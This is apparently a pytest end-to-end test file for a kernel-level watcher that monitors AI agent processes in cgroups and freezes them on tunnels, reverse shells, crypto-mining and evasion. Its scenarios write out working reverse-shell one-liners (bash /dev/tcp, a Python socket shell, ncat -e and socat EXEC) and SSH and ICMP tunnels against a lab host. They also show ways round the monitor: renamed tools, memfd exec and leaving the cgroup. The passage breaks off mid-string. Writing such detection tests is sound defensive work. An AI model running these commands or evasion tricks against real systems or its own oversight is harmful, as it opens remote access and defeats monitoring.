"""Detections end to end: one real watcher with the default rules, real agent
processes in per-episode cgroups, real peers (sshd and a stratum pool in a
network namespace of our own). Attacks are frozen; benign work raises nothing."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
import uuid
from contextlib import contextmanager
from pathlib import Path

import pytest

from agentprobe.cgroups import remove_cgroup_tree
from agentprobe.lab import INTERNAL_ADDR, Internet
from agentprobe.stream import StreamError, read_records

pytestmark = pytest.mark.kernel


@pytest.fixture(scope="module")
def net():
    with Internet() as n:
        yield n


@pytest.fixture(scope="module")
def agents(tmp_path_factory):
    """The watched parent cgroup and the watcher on it (module-wide)."""
    from conftest import Cgroup
    from watcher import WatcherProcess

    from agentprobe.cgroups import find_v2_mount

    root = find_v2_mount()
    parent = Cgroup(root, f"agentprobe-e2e-{uuid.uuid4().hex[:6]}")
    out = tmp_path_factory.mktemp("e2e") / "stream.msgpack"
    w = WatcherProcess(["--cgroup", str(parent.path), "-o", str(out), "--no-view"])
    try:
        yield parent, out, w
    finally:
        w.stop()
        remove_cgroup_tree(parent.path)
    stop = records(out)[-1]  # every record of the whole module went through without a bug
    assert stop["type"] == "stop" and stop["internal_errors"] == 0 and stop["decode_errors"] == 0, stop


@pytest.fixture
def episode(agents):
    parent, out, _ = agents
    ep = parent.child(f"ep-{uuid.uuid4().hex[:6]}")
    try:
        yield ep
    finally:
        ep.remove()


def records(out: Path) -> list[dict]:
    got = []
    try:
        for r in read_records(str(out)):
            got.append(r)
    except StreamError:
        pass  # the watcher is still writing: a half-written last record
    return got


def for_episode(out: Path, ep) -> list[dict]:
    def path(r: dict) -> str:
        return (r.get("cgroup") or {}).get("path") or ""

    return [r for r in records(out) if path(r) == ep.rel or path(r).startswith(ep.rel + "/")]


def alerts(recs) -> list[str]:
    return [r["rule"] for r in recs if r["type"] == "alert"]


def wait_records(out, ep, pred, timeout=10.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        recs = for_episode(out, ep)
        if pred(recs):
            return recs
        time.sleep(0.1)
    return for_episode(out, ep)


def attack(agents, episode, argv) -> tuple:
    """Start an attack in the episode, wait for the freeze and its response record."""
    _, out, _ = agents
    p = episode.popen(argv)
    assert episode.wait_frozen()
    return p, wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))


def response(recs) -> dict:
    """The first response; any later one for the same episode finds it already frozen."""
    first, *rest = [r for r in recs if r["type"] == "response"]
    assert all(r["outcome"] == "already_frozen" for r in rest), rest
    return first


# ---------------------------------------------------------------- tunnels
def test_reverse_ssh_tunnel_is_frozen_before_use(agents, episode, net):
    p, recs = attack(agents, episode, net.ssh_argv("-N", "-R", "9000:127.0.0.1:22", f"root@{net.addr}"))
    assert "ssh_port_forwarding" in alerts(recs)
    (alert,) = [r for r in recs if r["type"] == "alert" and r["rule"] == "ssh_port_forwarding"]
    assert alert["action"] == "freeze" and alert["priority"] == "critical" and "T1572" in alert["mitre"]
    # frozen at ssh's connect to the outside address: the record carries the client's argv
    assert alert["proc"]["pid"] == p.pid
    assert alert["proc"]["cmdline"][:4] == ["ssh", "-i", str(net.dir / "user_key"), "-o"]
    assert alert["evidence"][0]["type"] == "connect" and alerts(recs)[0] == "ssh_port_forwarding"
    resp = response(recs)
    assert resp["outcome"] == "frozen" and resp["cgroup"]["path"] == episode.rel and resp["latency_ms"] > 0
    time.sleep(1.5)
    assert not net.port_open_inside(9000)  # the tunnel never came up
    p.kill()


def test_tunnel_hidden_in_a_config_file(agents, episode, net, tmp_path):
    cfg = tmp_path / "cfg"
    cfg.write_text(f"Host build-cache\n  HostName {net.addr}\n  User root\n  IdentityFile {net.dir / 'user_key'}\n"
                   "  RemoteForward 9001 127.0.0.1:22\n  StrictHostKeyChecking no\n"
                   "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
    p, recs = attack(agents, episode, ["ssh", "-F", str(cfg), "-N", "build-cache"])
    assert "interactive_session_outside_allowlist" in alerts(recs)
    assert response(recs)["outcome"] == "frozen"
    time.sleep(1.5)
    assert not net.port_open_inside(9001)
    p.kill()


def test_renamed_ssh_client(agents, episode, net, tmp_path):
    renamed = tmp_path / "cache-sync"
    shutil.copy(shutil.which("ssh"), renamed)
    p, recs = attack(agents, episode, net.ssh_argv("-N", f"root@{net.addr}", client=str(renamed)))
    assert "interactive_session_outside_allowlist" in alerts(recs)
    p.kill()


SSH_SPEAKER = r"""
import socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(b"SSH-2.0-paramiko_3.4.0\r\n")
s.recv(256)
time.sleep(30)
"""


def test_ssh_spoken_by_any_program_on_any_port(agents, episode, net, tmp_path):
    """No ssh binary, no SSH port: the first bytes give it away."""
    script = tmp_path / "sync.py"
    script.write_text(SSH_SPEAKER)
    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.SSH_ALT_PORT)])
    assert alerts(recs) == ["ssh_protocol_outside_allowlist"]
    (payload,) = [r for r in recs if r["type"] == "payload"]
    assert (payload["address"], payload["port"], payload["app"], payload["proc"]["pid"]) == (
        net.addr, net.SSH_ALT_PORT, "ssh", p.pid)
    assert response(recs)["outcome"] == "frozen"
    p.kill()


# ---------------------------------------------------------------- mining
STRATUM_CLIENT = r"""
import json, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["kworker/1.0"]}).encode() + b"\n")
s.recv(4096)
s.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["wallet.rig", "x"]}).encode() + b"\n")
time.sleep(30)
"""


def test_process_named_like_no_miner_speaking_stratum(agents, episode, net, tmp_path):
    script = tmp_path / "updater.py"
    script.write_text(STRATUM_CLIENT)
    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.pool_port)])
    assert "mining_pool_connection" in alerts(recs)
    assert response(recs)["outcome"] == "frozen"
    # refused in the kernel before any packet: the pool never heard from it
    (deny,) = [d for d in recs if d["type"] == "deny"]
    assert (deny["address"], deny["port"]) == (net.addr, net.pool_port)
    assert net.pool_requests() == []
    # the refused connect's own record comes first, and the rules froze on it before the deny was read
    (conn,) = [c for c in recs if c["type"] == "connect" and c.get("port") == net.pool_port]
    (alert,) = [a for a in recs if a["type"] == "alert" and a["rule"] == "mining_pool_connection"]
    assert conn["retval"] == -1 and conn["seq"] < alert["seq"] < response(recs)["seq"] < deny["seq"]
    p.kill()


def test_stratum_on_a_web_port(agents, episode, net, tmp_path):
    script = tmp_path / "telemetry.py"
    script.write_text(STRATUM_CLIENT)
    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.POOL_ALT_PORT)])
    assert alerts(recs) == ["stratum_protocol"]
    (alert,) = [r for r in recs if r["type"] == "alert"]
    assert alert["evidence"][0]["method"] == "mining.subscribe" and "T1496" in alert["mitre"]
    p.kill()


# ---------------------------------------------------------------- benign agent work
BENIGN = r"""
set -e
cd "$1"
cat > calc.c <<'EOF'
int add(int a, int b) { return a + b; }
EOF
cat > test.c <<'EOF'
#include <assert.h>
int add(int, int);
int main(void) { assert(add(2, 3) == 5); return 0; }
EOF
printf 'test: calc.c test.c\n\tcc -o t calc.c test.c && ./t\n' > Makefile
make -s test
ssh -V 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -f ./k >/dev/null
grep -rn "xmrig\|stratum+tcp" . || true
python3 -m http.server 18080 --bind 127.0.0.1 >/dev/null 2>&1 &
srv=$!
sleep 0.5
curl -s -o /dev/null http://127.0.0.1:18080/ || python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:18080/').read()"
kill $srv
python3 -m pip --version >/dev/null
git init -q repo && git -C repo log 2>/dev/null || true
"""


def test_benign_agent_work_raises_nothing(agents, episode, tmp_path):
    _, out, _ = agents
    r = episode.run(["/bin/bash", "-c", BENIGN, "benign", str(tmp_path)], text=True)
    assert r.returncode == 0, r.stderr
    time.sleep(1.0)
    recs = for_episode(out, episode)
    assert [x["argv"][0] for x in recs if x["type"] == "exec" and x["argv"]][:1] == ["/bin/bash"]
    assert alerts(recs) == [] and not episode.frozen()
    assert any(x["type"] == "connect" and x.get("port") == 18080 for x in recs)


# ---------------------------------------------------------------- every other default rule, by a real process
GPU_LOOP = r"""
import fcntl, os, struct, sys, time
def iowr(nr, size):
    return (3 << 30) | (size << 16) | (ord("F") << 8) | nr
try:
    os.open(sys.argv[1], os.O_RDWR)  # as CUDA does; the imitation node has no driver (ENXIO)
except OSError:
    pass
fd = os.open(sys.argv[1], os.O_PATH)  # an fd whose ioctls still enter the kernel
alloc = bytearray(struct.pack("<IIII", 1, 2, 3, 0x41)) + bytearray(48)   # RM_ALLOC root client: a CUDA context
for i in range(int(sys.argv[2]) + 50):
    try:
        fcntl.ioctl(fd, iowr(0x2B, len(alloc)), alloc)
    except OSError:
        pass
    if i < 50:
        time.sleep(0.005)  # a real CUDA start-up takes a while; the ioctl probe may attach during it
"""


@pytest.fixture
def gpu_node(tmp_path):
    node = tmp_path / "nvidiactl"
    os.mknod(node, 0o600 | 0o020000, os.makedev(195, 255))
    return node


def scenarios(net, tmp: Path, gpu: Path) -> dict[str, tuple[str, str, str | None]]:
    """rule id -> (shell command, the rule's action, the rule whose freeze follows or None): real tools doing
    the thing. Text and tools whose far end is not known yet alert; what they then do freezes."""
    key = net.dir / "user_key"
    ssh_opts = f"-i {key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
    h = net.addr
    for name, src in (("xmrig", "/bin/sleep"), ("cloudflared", sys.executable), ("render", sys.executable)):
        shutil.copy(src, tmp / name)
    dial = f"import socket,time; socket.socket().connect_ex(('{h}', 7844)); time.sleep(30)"  # cloudflared's port
    (tmp / "gpu.py").write_text(GPU_LOOP)
    return {
        # autossh alerts by name; its ssh -R connecting out freezes
        "tunnel_tool_started": (f"autossh -M 0 -N {ssh_opts} -R 9100:127.0.0.1:22 root@{h}", "alert",
                                "ssh_port_forwarding"),
        "cloudflared_tunnel": (f"{tmp}/cloudflared -c \"{dial}\" tunnel run", "freeze", None),
        "netcat_exec": (f"ncat {h} 4455 -e /bin/sh", "freeze", None),
        "netcat_listener": ("ncat -l 127.0.0.1 5599 & sleep 1; kill $!", "alert", None),
        "socat_relay": (f"socat TCP:{h}:4455 EXEC:/bin/sh", "freeze", None),
        # text alerts; the inner shell connecting out itself freezes
        "shell_network_redirection": (f"bash -c 'bash -i >& /dev/tcp/{h}/4455 0>&1'", "alert",
                                      "shell_outbound_connection"),
        # text alerts; the shell it starts with the socket as its terminal freezes
        "interpreter_reverse_shell": (
            f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",4455));"
            f"os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "alert", "shell_with_network_stdio"),
        "miner_binary_started": (f"{tmp}/xmrig 30", "freeze", None),
        "miner_arguments": ("/bin/true -o stratum+tcp://pool.example:3333 -u wallet.rig --donate-level 1", "freeze",
                            None),
        "gpu_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert", None),
        "cuda_context_from_temp_dir": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert", None),
        "gpu_sustained_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 12000; sleep 3", "alert", None),
        "internal_network_probing": (
            "python3 -c 'import socket\nfor p in range(1, 25):\n s=socket.socket(); s.settimeout(0.5)\n"
            f" s.connect_ex((\"{INTERNAL_ADDR}\", p)); s.close()'", "alert", None),
        # a real scanner: nmap's connect scan of 2000 loopback ports, far past the record budget
        "connection_sweep": ("nmap -sT -Pn -n -p 20000-21999 --min-rate 5000 127.0.0.1", "alert", None),
    }


RULES_BY_REAL_PROCESS = ["tunnel_tool_started", "cloudflared_tunnel", "netcat_exec", "netcat_listener", "socat_relay",
                         "shell_network_redirection", "interpreter_reverse_shell", "miner_binary_started",
                         "miner_arguments", "gpu_use_not_allowed", "cuda_context_from_temp_dir",
                         "gpu_sustained_use_not_allowed", "internal_network_probing", "connection_sweep"]


@pytest.fixture
def far_end(net):
    """A listener on port 4455 of the outside host, so reverse shells and relays really connect."""
    p = subprocess.Popen(net.exec_argv("ncat", "-lk", net.addr, "4455"), stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield p
    finally:
        p.kill()
        p.wait()


@pytest.mark.parametrize("rule", RULES_BY_REAL_PROCESS)
def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_path, gpu_node, far_end):
    _, out, _ = agents
    cmd, action, frozen_by = scenarios(net, tmp_path, gpu_node)[rule]
    if rule == "miner_binary_started":
        # a known miner name is stopped in the kernel: refused by BPF-LSM where the kernel allows it,
        # else killed by the exec probe before its first instruction; both raise this rule
        rule = "miner_exec_denied"
    p = episode.popen(["/bin/bash", "-c", cmd], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                      start_new_session=True)
    try:
        recs = wait_records(out, episode, lambda rs: rule in alerts(rs), timeout=15)
        assert rule in alerts(recs)
        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == rule)
        assert alert["action"] == action and alert["mitre"] and alert["evidence"]
        if action == "freeze":
            assert episode.wait_frozen()
        if frozen_by is not None:  # the behaviour that follows freezes, before the session carries anything
            assert episode.wait_frozen()
            recs = wait_records(out, episode, lambda rs: any(
                r["type"] == "response" and r["outcome"] == "frozen" for r in rs))
            assert [r["rule"] for r in recs if r["type"] == "response" and r["outcome"] == "frozen"] == [frozen_by]
        if rule == "miner_exec_denied":
            (ex,) = [r for r in recs if r["type"] == "exec" and r["filename"].endswith("/xmrig")]
            if os.environ.get("AGENTPROBE_EXPECT_LSM") == "1":
                assert ex["failed"] and ex["error"] == "EPERM"
            else:
                assert ex["killed"] and ex["argv"][0].endswith("/xmrig")
        if rule == "connection_sweep":
            # nmap's connects: the budget's worth recorded, the rest counted in the kernel, none lost
            assert p.wait(20) == 0
            recs = wait_records(out, episode, lambda rs: sum(
                r["count"] for r in rs if r["type"] in ("connect_sweep", "connect_counts")) + len(
                [r for r in rs if r["type"] == "connect" and 20000 <= r.get("port", 0) < 22000]) >= 2000, timeout=10)
            recorded = [r for r in recs if r["type"] == "connect" and 20000 <= r.get("port", 0) < 22000]
            sweeps = [r for r in recs if r["type"] == "connect_sweep"]
            assert {r["proc"]["comm"] for r in recorded + sweeps} == {"nmap"}
            assert len({(r["address"], r["port"]) for r in recorded}) == len(recorded) <= 2000 - sum(
                r["count"] for r in sweeps)
            assert 20000 <= min(r["min_port"] for r in sweeps) <= max(r["max_port"] for r in sweeps) <= 21999
            assert alert["evidence"][-1]["type"] == "connect_sweep"
    finally:
        try:
            os.killpg(p.pid, 9)
        except ProcessLookupError:
            pass


RELAY = r"""
import socket, sys, threading
ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", int(sys.argv[1]))); ls.listen(1)
print("ready", flush=True)
c, _ = ls.accept()
far = socket.create_connection((sys.argv[2], int(sys.argv[3])))
def pump(a, b):
    while (d := a.recv(4096)):
        b.sendall(d)
threading.Thread(target=pump, args=(far, c), daemon=True).start()
pump(c, far)
"""


def test_a_shell_through_a_local_relay_is_judged_by_where_the_relay_goes(agents, episode, net, far_end, tmp_path):
    """A shell whose terminal is a socket to a loopback port is only an alert by itself; the agent's relay
    listening there and connected outside makes it a tunnel out, and that freezes."""
    _, out, _ = agents
    relay = episode.popen([sys.executable, "-c", RELAY, "24455", net.addr, "4455"], stdout=subprocess.PIPE, text=True)
    assert relay.stdout.readline().strip() == "ready"
    shell = episode.popen(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/24455; exec /bin/sh -i <&3 >&3 2>&3"])
    try:
        assert episode.wait_frozen()
        recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
        assert "shell_with_local_network_stdio" in alerts(recs) and "shell_with_network_stdio" not in alerts(recs)
        assert [r["rule"] for r in recs if r["type"] == "response" and r["outcome"] == "frozen"] == [
            "session_through_local_tunnel"]
        (t,) = [r for r in recs if r["type"] == "tunnel"]
        assert (t["carried"], t["port"], t["to"], t["proc"]["pid"]) == ("shell", 24455, [f"{net.addr}:4455"], relay.pid)
    finally:
        for p in (shell, relay):
            p.kill()
            p.wait()


def test_a_shell_on_a_loopback_socket_of_a_node_service_is_an_alert_only(agents, episode, tmp_path):
    """The peer is loopback and nobody of the agent's listens there (a service of the node's): no tunnel out."""
    _, out, _ = agents
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    shell = episode.popen(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec /bin/sh -i <&3 >&3 2>&3"])
    try:
        conn, _ = srv.accept()
        recs = wait_records(out, episode, lambda rs: "shell_with_local_network_stdio" in alerts(rs))
        time.sleep(1.0)  # the tunnel stage looks for a relay again a few times: nothing comes of it
        recs = for_episode(out, episode)
        assert not episode.frozen() and [r for r in recs if r["type"] in ("tunnel", "response")] == []
        conn.close()
    finally:
        shell.kill()
        shell.wait()
        srv.close()


# ---------------------------------------------------------------- evasion
def test_agent_leaving_its_cgroup_is_pulled_back_and_frozen(agents, episode, outside_cgroup):
    """A process writes its own pid into a cgroup outside the watched ones: the kernel reports the
    move, the rule fires, and the response moves it back into its episode and freezes that."""
    _, out, _ = agents
    p = episode.popen(["/bin/sh", "-c", f"echo $$ > {outside_cgroup.path}/cgroup.procs; exec sleep 30"])
    try:
        assert episode.wait_frozen()
        recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
        (move,) = [r for r in recs if r["type"] == "cgroup_move"]
        assert move["proc"]["pid"] == p.pid and move["cgroup"]["path"] == episode.rel
        assert move["to"] == {"id": outside_cgroup.id, "path": outside_cgroup.rel, "watched": False}
        assert move["mover"]["pid"] == p.pid
        assert alerts(recs)[0] == "agent_left_its_cgroup"
        r = response(recs)
        assert (r["outcome"], r["pulled_back"], r["cgroup"]["path"]) == ("frozen", p.pid, episode.rel)
        assert str(p.pid) in (episode.path / "cgroup.procs").read_text().split()
        assert outside_cgroup.path.joinpath("cgroup.procs").read_text().split() == []
    finally:
        p.kill()
        (episode.path / "cgroup.freeze").write_text("0")
        p.wait()


def test_moves_inside_the_agent_cgroups_raise_nothing(agents, episode):
    _, out, _ = agents
    other = episode.child("tool-call-2")
    r = episode.run(["/bin/sh", "-c", f"echo $$ > {other.path}/cgroup.procs; /bin/true"])
    assert r.returncode == 0
    recs = wait_records(out, episode, lambda rs: any(x["type"] == "cgroup_move" for x in rs), timeout=5)
    (move,) = [x for x in recs if x["type"] == "cgroup_move"]
    assert move["to"] == {"id": other.id, "path": other.rel, "watched": True}
    assert alerts(recs) == [] and not episode.frozen()


def execs_of(recs, argv0: str) -> list[dict]:
    return [r for r in recs if r["type"] == "exec" and r.get("argv")[:1] == [argv0]]


def test_fileless_exec_from_a_memfd_is_seen(agents, episode):
    _, out, _ = agents
    episode.run([sys.executable, "-c", """
import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/echo", "rb").read())
os.execve(fd, ["kworker", "fileless"], {})
"""])
    recs = wait_records(out, episode, lambda rs: execs_of(rs, "kworker"))
    (ex,) = execs_of(recs, "kworker")
    assert ex["argv"] == ["kworker", "fileless"] and ex["filename"].startswith("/dev/fd/")
    assert ex["proc"]["exe"].startswith("/memfd:payload")


def test_new_namespaces_and_double_forks_stay_agents(agents, episode):
    """unshare (network, mount, pid, cgroup namespaces) and a daemon re-parented to init stay in the
    agent cgroup, so the kernel still reports what they run."""
    _, out, _ = agents
    episode.run(["unshare", "--net", "--mount", "--pid", "--fork", "--cgroup", "/bin/echo", "in-namespaces"])
    episode.run(["/bin/sh", "-c", "(setsid /bin/sh -c 'sleep 0.3; exec /bin/echo orphan' >/dev/null &); exit 0"])
    recs = wait_records(out, episode, lambda rs: [r for r in execs_of(rs, "/bin/echo") if r["argv"][1:] == ["orphan"]])
    got = {tuple(r["argv"][1:]): r for r in execs_of(recs, "/bin/echo")}
    assert set(got) == {("in-namespaces",), ("orphan",)}
    assert all(r["cgroup"]["path"] == episode.rel for r in got.values())
    assert got[("orphan",)]["proc"]["ppid"] != 0


def test_connects_without_connect_are_seen(agents, episode):
    """TCP Fast Open (sendto with MSG_FASTOPEN) and an IPv4-mapped IPv6 destination reach the
    cgroup connect hooks like any connect(2)."""
    _, out, _ = agents
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    port = srv.getsockname()[1]
    try:
        episode.run([sys.executable, "-c", f"""
import socket
s = socket.socket()
try:
    s.sendto(b"hello", socket.MSG_FASTOPEN, ("127.0.0.1", {port}))
except OSError:
    pass
s6 = socket.socket(socket.AF_INET6)
s6.connect_ex(("::ffff:127.0.0.1", {port}))
"""])
        recs = wait_records(out, episode, lambda rs: len([r for r in rs if r["type"] == "connect"]) >= 2)
    finally:
        srv.close()
    conns = [(r["family"], r["address"], r["port"], r.get("v4mapped", False)) for r in recs if r["type"] == "connect"]
    assert conns == [("inet", "127.0.0.1", port, False), ("inet6", "127.0.0.1", port, True)]


@contextmanager
def shell_attack(episode, command: str):
    """A shell command run in the episode in its own session; killed (and the episode thawed) after."""
    p = episode.popen(["/bin/sh", "-c", command], start_new_session=True)
    try:
        yield p
    finally:
        os.killpg(p.pid, 9)
        (episode.path / "cgroup.freeze").write_text("0")
        p.wait()


# ---------------------------------------------------------------- covert channels, real tunnel tools
@pytest.fixture
def netns_server(net, tmp_path):
    """Start a server inside the outside namespace; killed at the end."""
    procs: list[subprocess.Popen] = []

    def start(*argv: str, udp_port: int | None = None) -> subprocess.Popen:
        p = subprocess.Popen(net.exec_argv(*argv), stdout=open(tmp_path / "server.log", "ab"),
                             stderr=subprocess.STDOUT)
        procs.append(p)
        deadline = time.monotonic() + 10
        while udp_port and time.monotonic() < deadline:
            r = subprocess.run(net.exec_argv("ss", "-Huln", f"sport = :{udp_port}"), capture_output=True, text=True)
            if r.stdout.strip():
                break
            time.sleep(0.05)
        time.sleep(0.3)
        return p

    yield start
    for p in procs:
        p.kill()
        p.wait()


def disguise(src: str, dst: Path) -> None:
    """A renamed copy with a byte appended: neither its name nor its sha256 is known; only what it
    does can give it away."""
    shutil.copy(src, dst)
    with open(dst, "ab") as f:
        f.write(b"\0")


def test_a_renamed_tunnel_tool_is_known_by_its_hash(agents, episode, tmp_path):
    _, out, _ = agents
    renamed = tmp_path / "cache-warmer"
    shutil.copy(shutil.which("ptunnel-ng"), renamed)
    episode.popen([str(renamed), "--help"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    recs = wait_records(out, episode, lambda rs: "tunnel_tool_started" in alerts(rs))
    assert alerts(recs)[0] == "tunnel_tool_started"  # known by its sha256; it went nowhere: an alert, no freeze
    assert not episode.frozen()
    (ex,) = [r for r in recs if r["type"] == "exec" and r["filename"] == str(renamed)]
    assert ex["proc"]["comm"] == "cache-warmer"


SEND_THROUGH = r"""
import socket, sys, time
deadline = time.monotonic() + 10
while True:
    try:
        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
        break
    except OSError:
        if time.monotonic() > deadline:
            raise
        time.sleep(0.2)
s.sendall(b"SSH-2.0-OpenSSH_9.2p1 tunnelled\r\n" + b"x" * 600)
try:
    print(s.recv(100))
except OSError:
    pass
time.sleep(2)
"""


def test_icmp_tunnel_with_ptunnel_ng_renamed(agents, episode, net, netns_server, tmp_path):
    """ptunnel-ng (renamed, so only behaviour can tell) carries an SSH session in ICMP echo packets."""
    _, out, _ = agents
    netns_server("ptunnel-ng", f"-r{net.addr}", "-R22", "-v-1")  # options take attached values
    worker = tmp_path / "worker"
    disguise(shutil.which("ptunnel-ng"), worker)
    (tmp_path / "send.py").write_text(SEND_THROUGH)
    with shell_attack(episode, f"{worker} -p{net.addr} -l2299 -r{net.addr} -R22 -v-1 & "
                               f"{sys.executable} {tmp_path / 'send.py'} 2299; kill $!"):
        assert episode.wait_frozen(20)
        recs = wait_records(out, episode, lambda rs: "icmp_tunnel" in alerts(rs))
        assert {"raw_socket_opened", "icmp_tunnel"} <= set(alerts(recs))
        pkts = [r for r in recs if r["type"] == "packet" and r["protocol"] == "icmp"]
        assert pkts and pkts[0]["address"] == net.addr and max(x["len"] for x in pkts) > 128
        assert response(recs)["outcome"] == "frozen"


def test_dns_through_a_resolver_and_plain_ping_raise_no_tunnel_alert(agents, episode, net):
    """A normal lookup sent to a resolver on loopback, and ping's small echo requests: no tunnel alerts."""
    _, out, _ = agents
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind(("127.0.0.53", 0))
    port = resolver.getsockname()[1]
    try:
        episode.run([sys.executable, "-c", f"""
import socket, struct
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\\x04pypi\\x03org\\x00" + struct.pack("!HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(q, ("127.0.0.53", {port}))
"""])
        episode.run(["ping", "-c", "2", "-i", "0.2", "-W", "1", net.addr])
        time.sleep(1.5)
        recs = for_episode(out, episode)
    finally:
        resolver.close()
    tunnel_rules = {"icmp_tunnel", "dns_tunnel_query", "dns_tunnel_many_names", "dns_to_unexpected_server"}
    assert not tunnel_rules & set(alerts(recs)) and not episode.frozen()
    assert [r["len"] for r in recs if r["type"] == "packet" and r["protocol"] == "icmp"] == [56, 56]


def test_ssh_through_a_local_relay_names_the_relay_and_where_it_goes(agents, episode, net, tmp_path):
    """A renamed socat listens on loopback and forwards to the outside sshd; ssh goes to the loopback
    port. The SSH bytes on loopback lead to the relay, its outside peer is named, the episode frozen."""
    _, out, _ = agents
    relay = tmp_path / "relay"
    shutil.copy(shutil.which("socat"), relay)
    ssh = " ".join(net.ssh_argv("-p", "2296", "-N", "root@127.0.0.1"))
    # to sshd's port 443: no port-based rule fires on the relay's own connect before ssh speaks
    with shell_attack(episode, f"{relay} TCP-LISTEN:2296,bind=127.0.0.1,reuseaddr,fork "
                               f"TCP:{net.addr}:{net.SSH_ALT_PORT} & sleep 0.5; {ssh}; kill $!"):
        assert episode.wait_frozen(20)
        recs = wait_records(out, episode, lambda rs: "session_through_local_tunnel" in alerts(rs))
        (t,) = [r for r in recs if r["type"] == "tunnel"]
        assert t["carried"] == "ssh" and t["port"] == 2296 and t["to"] == [f"{net.addr}:{net.SSH_ALT_PORT}"]
        assert t["proc"]["comm"] == "relay" and t["client"]["comm"] == "ssh"
        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "session_through_local_tunnel")
        assert f"to {net.addr}:{net.SSH_ALT_PORT}" in alert["summary"] and "relay" in alert["summary"]


def test_ssh_to_a_local_sshd_of_the_node_is_not_a_tunnel(agents, episode, net):
    """SSH bytes to a loopback port nobody of the agent's listens on (a node service): no tunnel."""
    _, out, _ = agents
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    try:
        episode.run([sys.executable, "-c", f"import socket; s = socket.create_connection(('127.0.0.1', {port})); "
                                           "s.sendall(b'SSH-2.0-OpenSSH_9.2\\r\\n')"])
        time.sleep(1.5)
        recs = for_episode(out, episode)
    finally:
        srv.close()
    assert [r["app"] for r in recs if r["type"] == "payload"] == ["ssh"]
    assert not [r for r in recs if r["type"] == "tunnel"] and alerts(recs) == []


def test_stratum_through_a_local_relay(agents, episode, net, tmp_path):
    """A mining session handed to a renamed socat on loopback, relayed to the pool on a web port."""
    _, out, _ = agents
    relay = tmp_path / "cache-proxy"
    shutil.copy(shutil.which("socat"), relay)
    with shell_attack(episode, f"{relay} TCP-LISTEN:2295,bind=127.0.0.1,reuseaddr,fork "
                               f"TCP:{net.addr}:{net.POOL_ALT_PORT} & sleep 0.5; {sys.executable} -c '"
                               "import socket, time; s = socket.create_connection((\"127.0.0.1\", 2295)); "
                               "s.sendall(b\"{\\\"id\\\": 1, \\\"method\\\": \\\"mining.subscribe\\\", "
                               "\\\"params\\\": []}\\n\"); time.sleep(3)'; kill $!"):
        assert episode.wait_frozen(20)
        recs = wait_records(out, episode, lambda rs: any(r["type"] == "tunnel" for r in rs))
        (t,) = [r for r in recs if r["type"] == "tunnel"]
        assert (t["carried"], t["detail"], t["proc"]["comm"]) == ("stratum", "mining.subscribe", "cache-proxy")
        assert "stratum_protocol" in alerts(recs)  # stratum on any socket, loopback included
        # the stratum bytes on loopback may freeze the episode before the relay has even connected out:
        # then there is nowhere to name, and nothing of the relay reached the pool
        pool = f"{net.addr}:{net.POOL_ALT_PORT}"
        relay_connects = [r for r in recs if r["type"] == "connect" and r["proc"]["pid"] in t["forwarder_pids"]
                          and r.get("port") == net.POOL_ALT_PORT]
        assert t["to"] == ([pool] if relay_connects else [])
        assert t["proc"]["cmdline"][-1] == f"TCP:{pool}"  # what the relay was told to do, either way


# ---------------------------------------------------------------- evasion: behaviour, not command lines
HOLDING_LISTENER = r"""
import socket, sys
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", int(sys.argv[1]))); srv.listen(8)
held = []
while True:
    held.append(srv.accept()[0])  # the attacker's end: holds the shell's socket open, sends nothing
"""
SHELL_PORT = 4460


@pytest.fixture
def shell_listener(net, netns_server, tmp_path):
    """A listener in the outside namespace that accepts reverse shells and keeps them open."""
    (tmp_path / "listener.py").write_text(HOLDING_LISTENER)
    netns_server(sys.executable, str(tmp_path / "listener.py"), str(SHELL_PORT))
    return SHELL_PORT


BASH_DEV_TCP = """
exec 5<>/dev/tcp/{host}/{port}
